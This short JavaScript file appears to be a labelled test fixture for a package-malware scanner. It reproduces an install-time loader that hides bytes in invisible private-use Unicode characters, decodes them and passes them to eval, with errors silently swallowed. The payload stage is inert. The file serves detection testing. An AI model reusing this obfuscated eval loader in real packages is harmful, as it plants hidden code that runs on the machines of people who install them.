// expect: malicious
// when: install
// source: blind set 36's os-info-detect: the preinstall script maps every private-use character (U+E000-U+E0FF) of a
// template literal to a byte and evals the result; no editor shows those characters (the stage here is inert).
'use strict';
const d = s => [...s].map(c => c.codePointAt(0)).filter(n => n >= 0xE000 && n <= 0xE0FF).map(n => n - 0xE000);
const t = `||`;
try { eval(Buffer.from(d(t)).toString('utf-8')); } catch (e) {}
